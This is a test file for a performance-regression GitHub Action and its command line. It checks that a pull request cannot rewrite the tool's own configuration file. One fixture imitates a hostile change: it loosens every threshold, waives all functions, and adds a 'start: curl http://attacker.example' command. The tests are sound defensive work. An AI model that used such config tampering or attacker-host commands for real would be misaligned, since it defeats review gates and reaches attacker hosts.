import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dispatchEvent, pullRequestEvent } from '../harness/events.ts';
import type { FakeGitHub } from '../harness/fake-github.ts';
import { type ActionRun, runAction } from '../harness/runner.ts';
import { BASE, recordPictures, SLOWER } from './recorded.ts';
import { onStage, type Stage } from './stage.ts';
import { makeRepository, type Repository, ROOT, runCli } from './support.ts';

const FILE = '.flamegate.yml';

/** Thresholds that three short rounds can decide by, and a head that is four times as slow. */
const STRICT = `
start: node server.mjs
rounds: 3
max-rounds: 9
duration: 1s
warmup: 300ms
connections: 4
max-increase: 60
min-relative: 60%
`;

/** All that a change could want to say about itself. */
const SELF_SERVING =
  `${STRICT.replace('max-increase: 60', 'max-increase: 100').replace('min-relative: 60%', 'min-relative: 1000%')}
mode: observe
comment: never
alpha: 0.001%
pyroscope-url: http://attacker.example
waivers: [{ function: "*", ceiling: 100, reason: trust me, expires: 2999-12-31 }]
thresholds: [{ function: "*", ignore: true }]
start: curl http://attacker.example
`.replace('start: node server.mjs\n', '');

/** Tells at once which file was read. */
const MISTAKEN = `${STRICT}max-incraese: 3\n`;
const MISTAKE = `${FILE}:10:1: “max-incraese” is not known; did you mean “max-increase”?`;

let folder: Stage['folder'];
let github: FakeGitHub;
let runs: ActionRun[];
onStage((stage) => {
  ({ folder, github, runs } = stage);
});

function repositoryWith(base: string | undefined, head: string): Promise<Repository> {
  const files = (text: string | undefined) =>
    text === undefined ? {} : { files: { [FILE]: text } };
  return makeRepository(folder.path, {
    base: { work: 100, ...files(base) },
    head: { work: 400, ...files(head) },
  });
}

async function onPullRequest(
  repository: Repository,
  inputs: Readonly<Record<string, string>> = {},
): Promise<ActionRun> {
  const pull = github.addPull({
    number: 7,
    headSha: repository.change,
    baseSha: repository.base,
  });
  const run = await runAction({
    action: ROOT,
    inputs,
    eventName: 'pull_request',
    event: pullRequestEvent(github, pull),
    sha: repository.merge,
    github,
    workspace: repository.path,
  });
  runs.push(run);
  return run;
}

describe('the Action, configured by a file', () => {
  it('judges a pull request by the base’s file, whatever the change says of itself', async () => {
    const repository = await repositoryWith(STRICT.replaceAll(': 60', ': 5'), SELF_SERVING);
    const run = await onPullRequest(repository, {
      'rounds-file': await recordPictures(folder.path, BASE, SLOWER),
    });
    expect(run).toMatchObject({ conclusion: 'failure', exitCode: 1, forged: [], orphans: [] });
    expect(run.outputs).toMatchObject({ verdict: 'regression', culprit: 'escape' });
    const result: unknown = JSON.parse(await readFile(run.outputs.result ?? '', 'utf8'));
    expect(result).toMatchObject({
      policy: { maxIncrease: 0.05, minRelative: 0.05, alpha: 0.01 },
      rounds: expect.any(Number),
    });
    expect(run.log).toContain(`The change under test changes ${FILE} too`);
    expect(run.log).not.toContain('attacker.example');
    expect(github.comments(7)).toHaveLength(1);
  });

  it('builds and starts both sides as the base’s file says', async () => {
    const run = await onPullRequest(
      await repositoryWith(
        STRICT.replace('node server.mjs', 'echo as the base says; exit 7'),
        SELF_SERVING,
      ),
    );
    expect(run).toMatchObject({ conclusion: 'failure', exitCode: 3, forged: [], orphans: [] });
    expect(run.outputs).toMatchObject({ verdict: 'invalid' });
    expect(run.log).toContain('│ as the base says');
    expect(run.log).not.toContain('attacker.example');
  });

  it('takes no file that only the change has', async () => {
    const repository = await repositoryWith(undefined, SELF_SERVING);
    const run = await onPullRequest(repository);
    expect(run).toMatchObject({ conclusion: 'failure', exitCode: 2 });
    expect(run.log).toContain('input start is missing');
    expect(run.log).toContain(`The change under test brings ${FILE}; it counts once it is merged.`);
    const named = await onPullRequest(repository, { config: FILE, start: 'node server.mjs' });
    expect(named.exitCode).toBe(2);
    expect(named.log).toContain(`configuration file ${FILE}: there is none in commit`);
  });

  it('tells a mistake in the file with its line and column', async () => {
    const run = await onPullRequest(await repositoryWith(MISTAKEN, STRICT));
    expect(run.exitCode).toBe(2);
    expect(run.annotations).toMatchObject([
      { level: 'error', message: expect.stringContaining(MISTAKE) },
    ]);
  });

  it('reads it from the commit that started a workflow by hand, not from what that checks out', async () => {
    const repository = await repositoryWith(MISTAKEN, SELF_SERVING);
    repository.git('checkout', '--quiet', repository.change);
    const run = await runAction({
      action: ROOT,
      inputs: { base: 'main', head: 'topic' },
      eventName: 'workflow_dispatch',
      event: dispatchEvent(github),
      sha: repository.base,
      github,
      workspace: repository.path,
    });
    runs.push(run);
    expect(run.exitCode).toBe(2);
    expect(run.log).toContain(MISTAKE);
  });
});

describe('the command line, configured by a file', () => {
  it('takes the one of the work tree, from any folder in it', async () => {
    const { path } = await repositoryWith(
      STRICT,
      `${STRICT}build: echo as the file says; exit 7\n`,
    );
    await mkdir(join(path, 'deep/er'), { recursive: true });
    const run = await runCli(['run', '--base=main', '--head=topic'], {
      cwd: join(path, 'deep/er'),
    });
    expect(run.stdout).toContain('Invalid: build base exited with code 7');
    expect(run.stderr).toContain('│ as the file says');
    expect(run.code).toBe(3);
  });

  it('takes another one by choice, and tells where it is wrong', async () => {
    const { path } = await repositoryWith(STRICT, STRICT);
    await writeFile(join(path, 'other.yml'), 'rounds: 3\nstart: [a]\n');
    const run = await runCli(['run', '--base=main', '--config=other.yml'], { cwd: path });
    expect(run).toMatchObject({ code: 2, stdout: '' });
    expect(run.stderr).toContain('other.yml:2:8: start must be a single value');
    const missing = await runCli(['run', '--base=main', '--config=none.yml'], { cwd: path });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("none.yml can't be read");
  });

  it('is as careful as the Action in a workflow', async () => {
    const repository = await repositoryWith(MISTAKEN, SELF_SERVING);
    const pull = github.addPull({
      number: 7,
      headSha: repository.change,
      baseSha: repository.base,
    });
    const event = join(folder.path, 'event.json');
    await writeFile(event, JSON.stringify(pullRequestEvent(github, pull)));
    const run = await runCli(['run', `--base=${repository.base}`], {
      cwd: repository.path,
      env: {
        GITHUB_ACTIONS: 'true',
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: event,
        GITHUB_SHA: repository.merge,
        GITHUB_REPOSITORY: `${github.repository.owner}/${github.repository.name}`,
      },
    });
    expect(run).toMatchObject({ code: 2, stdout: '' });
    expect(run.stderr).toContain(MISTAKE);
  });
});

describe('several services', () => {
  const SERVICES = `
rounds: 4
max-rounds: 12
duration: 1s
warmup: 300ms
connections: 4
max-increase: 60
min-relative: 60%
services:
  steady:
    start: node steady/server.mjs
  basket:
    start: node server.mjs
  broken:
    start: node nowhere.mjs
    ready-timeout: 2s
    mode: observe
`;

  it('are measured one after the other, judged by themselves, and told together', async () => {
    const steady = `import { createServer } from 'node:http';
function steadyWork() { let sum = 0; for (let at = 0; at < 100000; at += 1) sum = (sum * 31 + at) % 1000003; return sum; }
createServer((request, response) => response.end(String(steadyWork()))).listen(Number(process.env.PORT), '127.0.0.1');
`;
    const files = { [FILE]: SERVICES, 'steady/server.mjs': steady };
    const { path } = await makeRepository(folder.path, {
      base: { work: 100, files },
      // So much that a busy machine can't hide it.
      head: { work: 800, files },
    });
    const run = await runCli(
      ['run', '--base=main', '--head=topic', '--json=all.json', '--bundle=kept'],
      { cwd: path },
    );
    expect(run.stdout).toMatch(/^\nRegression in basket: priceBasket costs/u);
    expect(run.stdout.replaceAll(/\s+/gu, ' ')).toContain('the other 2: 1 invalid, 1 pass');
    expect(run.code).toBe(1);
    const json: unknown = JSON.parse(await readFile(join(path, 'all.json'), 'utf8'));
    expect(json).toMatchObject({
      verdict: 'regression',
      comparisons: [
        { service: 'steady', verdict: 'pass' },
        { service: 'basket', verdict: 'regression' },
        { service: 'broken', verdict: 'invalid' },
      ],
    });
    // One of them alone has the same part of the error rate, and so the same verdict, again.
    const again = await runCli(['compare', '--rounds=kept/basket/rounds.json', '--json=one.json'], {
      cwd: path,
    });
    expect(again.code).toBe(1);
    const one: unknown = JSON.parse(await readFile(join(path, 'one.json'), 'utf8'));
    const { comparisons } = json as { comparisons: Record<string, unknown>[] };
    expect(one).toMatchObject({
      policy: { alpha: 0.01 / 3 },
      findings: comparisons[1]?.findings,
      reason: comparisons[1]?.reason,
    });
  });
});
